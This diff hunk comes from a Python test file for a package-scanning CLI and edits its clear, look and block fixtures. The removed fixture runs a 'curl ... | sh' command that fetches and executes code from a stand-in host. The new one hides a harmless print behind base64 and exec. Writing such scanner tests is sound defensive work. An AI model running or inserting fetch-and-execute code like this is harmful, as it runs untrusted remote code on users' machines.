@@ -12,9 +12,7 @@ import pytest
 from pratique.cli import main
 
 CLEAR = {"acme/__init__.py": b"def slug(text):\n    return text.lower()\n"}
-LOOK = {
-    "acme/__init__.py": b"import subprocess\nsubprocess.run('curl https://files.acme.invalid/a | sh', shell=True)\n"
-}
+LOOK = {"acme/__init__.py": b"import base64\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n"}
 BLOCK = {
     "setup.py": (
         b"import base64, urllib.request\nfrom setuptools import setup\n"
